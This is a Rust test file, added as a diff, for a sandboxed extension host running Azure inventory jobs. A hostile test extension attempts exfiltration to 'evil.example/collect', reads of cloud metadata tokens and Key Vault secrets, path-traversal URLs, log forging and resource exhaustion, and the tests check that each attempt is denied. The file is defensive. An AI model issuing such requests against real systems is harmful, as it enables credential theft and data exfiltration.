@@ -1,0 +1,258 @@
+//! Attempts of a hostile extension, one a test. Each "cannot" is an attempt that fails.
+
+#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
+
+use end_to_end::{Azure, Headless, artifact, fixture, job};
+use extension_host::egress::Decision;
+use extension_host::engine::Cancel;
+use extension_host::runner::{Cause, Report, Status};
+use std::time::Duration;
+
+const COMPONENT: &str = "hostile_extension.wasm";
+const JOB: &str = "inventory-service-principal";
+
+/// A policy that is the built-in one, and tells the extension what to try.
+fn trying(attempt: &str, argument: &str) -> String {
+    format!("[options]\nattempt = {attempt:?}\nargument = {argument:?}\n")
+}
+
+async fn attempt(attempt: &str, argument: &str) -> (Headless, Report) {
+    let headless = Headless::new(COMPONENT, &trying(attempt, argument));
+    let report = headless.run(&job(JOB)).await;
+    (headless, report)
+}
+
+#[tokio::test(start_paused = true)]
+async fn one_that_does_nothing_wrong_succeeds() {
+    let (_, report) = attempt("nothing", "").await;
+    assert_eq!(report.status, Status::Success, "{}", report.message);
+}
+
+#[tokio::test(start_paused = true)]
+async fn calling_another_host_is_denied_and_fails_the_job_that_says_success() {
+    let (headless, report) = attempt("get", "https://evil.example/collect").await;
+    assert_eq!(report.status, Status::Failure(Cause::Denied));
+    assert!(
+        report.message.contains("evil.example"),
+        "{}",
+        report.message
+    );
+    assert!(
+        report.message.contains("HttpRequestDenied"),
+        "the guest was told: {}",
+        report.message
+    );
+    assert!(report.list.is_none());
+    assert_eq!(headless.emulator.requests(), []);
+    let audit = headless.audit();
+    assert_eq!(audit.len(), 1);
+    assert_eq!(audit[0].decision, Decision::Denied);
+    assert_eq!(audit[0].host, "evil.example");
+    assert_eq!(audit[0].path, "/collect");
+    assert_eq!(audit[0].reason.as_deref(), Some("host"));
+    assert_eq!(audit[0].job, 4701);
+}
+
+#[tokio::test(start_paused = true)]
+async fn the_same_call_passes_where_the_policy_allows_it() {
+    let policy = format!(
+        "{}\n[[rule]]\nid = \"report\"\njobs = [\"inventory\"]\nmethod = \"GET\"\nurl = \"https://kv-two.vault.azure.net/collect\"\n",
+        trying("get", "https://kv-two.vault.azure.net/collect")
+    );
+    let headless = Headless::new(COMPONENT, &policy);
+    let report = headless.run(&job(JOB)).await;
+    // Nobody answers there, but the request left: the denial was the policy's.
+    assert_eq!(report.status, Status::Success, "{}", report.message);
+    assert_eq!(headless.audit()[0].decision, Decision::Allowed);
+    assert_eq!(headless.audit()[0].rule.as_deref(), Some("report"));
+}
+
+#[tokio::test(start_paused = true)]
+async fn requests_that_the_job_does_not_need_are_denied_one_by_one() {
+    let vault = "https://kv-one.vault.azure.net";
+    for (attempted, url, reason) in [
+        ("delete", format!("{vault}/certificates/cert-01?api-version=7.6"), "method"),
+        ("get", format!("{vault}/secrets/cert-01?api-version=7.6"), "path"),
+        ("get", format!("{vault}/certificates/contacts?api-version=7.6"), "path"),
+        ("get", format!("{vault}/certificates?api-version=7.6&leak=secret"), "query"),
+        ("get", format!("{vault}:8443/certificates?api-version=7.6"), "host"),
+        ("get", "https://kv-two.vault.azure.net/certificates?api-version=7.6".to_owned(), "host"),
+        ("get", "http://kv-one.vault.azure.net/certificates?api-version=7.6".to_owned(), "host"),
+        ("get", "http://169.254.169.254/metadata/identity/oauth2/token".to_owned(), "host"),
+        ("get", "https://127.0.0.1/".to_owned(), "host"),
+        ("get", format!("{vault}/certificates/../secrets?api-version=7.6"), "url"),
+        ("get", format!("{vault}/certificates%2fcert-01?api-version=7.6"), "url"),
+        ("header", format!("{vault}/certificates?api-version=7.6"), "header"),
+        ("post", format!("{vault}/certificates/cert-01/import?api-version=7.6"), "path"),
+        ("post", "https://login.microsoftonline.com/11111111-1111-4111-8111-111111111111/oauth2/v2.0/token".to_owned(), "body"),
+        ("post", "https://login.microsoftonline.com/99999999-9999-4999-8999-999999999999/oauth2/v2.0/token".to_owned(), "path"),
+    ] {
+        let (headless, report) = attempt(attempted, &url).await;
+        assert_eq!(report.status, Status::Failure(Cause::Denied), "{attempted} {url}");
+        assert_eq!(headless.emulator.requests(), [], "{attempted} {url}");
+        let audit = headless.audit();
+        assert_eq!(audit[0].reason.as_deref(), Some(reason), "{attempted} {url}");
+        assert!(report.message.contains("HttpRequestDenied"), "{url}: {}", report.message);
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_panic_is_a_failure_with_its_text_as_far_as_there_is_one() {
+    let (_, report) = attempt("panic", "").await;
+    assert_eq!(report.status, Status::Failure(Cause::Other));
+    assert!(
+        report.message.contains("ended abnormally"),
+        "{}",
+        report.message
+    );
+    assert!(report.list.is_none());
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_was_submitted_before_a_panic_is_not_handed_on() {
+    let (_, report) = attempt("submit-then-panic", "").await;
+    assert_eq!(report.status, Status::Failure(Cause::Other));
+    assert!(report.list.is_none());
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_stack_overflow_is_a_failure() {
+    let (_, report) = attempt("overflow-stack", "").await;
+    assert_eq!(report.status, Status::Failure(Cause::Other));
+}
+
+#[tokio::test(start_paused = true)]
+async fn memory_without_end_is_a_failure_that_names_the_limit() {
+    let (headless, report) = attempt("allocate", "").await;
+    assert_eq!(report.status, Status::Failure(Cause::Other));
+    assert!(report.message.contains("64 MiB"), "{}", report.message);
+    // The next job on the same host is unaffected.
+    let next = headless.run(&job(JOB)).await;
+    assert!(matches!(next.status, Status::Failure(_)));
+}
+
+#[tokio::test(start_paused = true)]
+async fn spinning_ends_with_the_cpu_time() {
+    let mut headless = Headless::new(COMPONENT, &trying("spin", ""));
+    headless.host.limits.cpu = Duration::from_millis(100);
+    let report = headless.run(&job(JOB)).await;
+    assert_eq!(report.status, Status::Failure(Cause::Deadline));
+    assert!(report.message.contains("CPU time"), "{}", report.message);
+}
+
+#[tokio::test(start_paused = true)]
+async fn sleeping_ends_with_the_deadline() {
+    let (headless, report) = attempt("sleep", "").await;
+    assert_eq!(report.status, Status::Failure(Cause::Deadline));
+    assert!(report.message.contains("time limit"), "{}", report.message);
+    assert_eq!(headless.emulator.requests(), []);
+}
+
+#[tokio::test(start_paused = true)]
+async fn one_that_ignores_a_cancellation_is_ended_after_the_grace() {
+    let headless = Headless::new(COMPONENT, &trying("sleep", ""));
+    let cancel = Cancel::new();
+    cancel.cancel();
+    let before = tokio::time::Instant::now();
+    let report = headless.run_cancellable(&job(JOB), cancel).await;
+    assert_eq!(
+        report.status,
+        Status::Failure(Cause::Cancelled),
+        "{}",
+        report.message
+    );
+    assert!(before.elapsed() < Duration::from_secs(30));
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_refused_submission_fails_the_job_that_says_success() {
+    for (name, says) in [
+        ("submit-twice", "twice"),
+        ("submit-blank", "no alias"),
+        ("submit-discovery", "no discovery"),
+    ] {
+        let (_, report) = attempt(name, "").await;
+        assert!(matches!(report.status, Status::Failure(_)), "{name}");
+        assert!(report.message.contains(says), "{name}: {}", report.message);
+        assert!(report.list.is_none(), "{name}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn log_lines_are_bounded_in_number_and_length() {
+    let (headless, report) = attempt("flood-log", "5000").await;
+    assert_eq!(report.status, Status::Success, "{}", report.message);
+    let lines = headless.log.lines();
+    assert_eq!(lines.len(), 1_000);
+    assert!(lines.iter().all(|(_, line)| line.len() <= 1_024 + 4));
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_log_line_cannot_become_two_or_move_the_cursor() {
+    let (headless, _) = attempt("forge-log", "").await;
+    let lines = headless.log.lines();
+    assert_eq!(lines.len(), 1);
+    assert!(!lines[0].1.contains(['\n', '\u{1b}']), "{:?}", lines[0].1);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_message_is_cut_to_what_the_platform_stores() {
+    let (_, report) = attempt("long-message", "").await;
+    assert_eq!(report.message.encode_utf16().count(), 4_000);
+}
+
+#[tokio::test(start_paused = true)]
+async fn there_is_no_assertion_for_a_job_with_a_secret() {
+    let (_, report) = attempt("assertion", "").await;
+    assert!(
+        report.message.contains("no federated identity"),
+        "{}",
+        report.message
+    );
+}
+
+#[test]
+fn a_job_on_its_own_thread_ends_the_same_way() {
+    let azure = Azure::start();
+    azure.append_policy(&trying("get", "https://evil.example/collect"));
+    let audit = azure.file("audit.jsonl", "");
+    let component = artifact(COMPONENT);
+    let ran = azure.run(
+        &fixture(JOB),
+        &[
+            "--component",
+            component.to_str().unwrap(),
+            "--audit",
+            audit.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(ran.code, 1, "{}", ran.stderr);
+    let result = ran.json();
+    assert_eq!(result["Result"], 4);
+    assert!(result.get("Inventory").is_none());
+    assert!(
+        result["FailureMessage"]
+            .as_str()
+            .unwrap()
+            .contains("evil.example")
+    );
+    assert!(
+        ran.stderr.contains("[[rule]]"),
+        "a rule to paste: {}",
+        ran.stderr
+    );
+    let audit = std::fs::read_to_string(audit).unwrap();
+    assert!(audit.contains("\"decision\":\"denied\""), "{audit}");
+    assert!(audit.contains("evil.example"), "{audit}");
+    assert_eq!(azure.emulator.requests(), []);
+}
+
+#[test]
+fn a_panic_on_its_own_thread_leaves_a_result() {
+    let azure = Azure::start();
+    azure.append_policy(&trying("panic", ""));
+    let component = artifact(COMPONENT);
+    let ran = azure.run(&fixture(JOB), &["--component", component.to_str().unwrap()]);
+    assert_eq!((ran.code, &ran.json()["Result"]), (1, &4.into()));
+    assert_eq!(ran.json()["JobHistoryId"], 4701);
+}
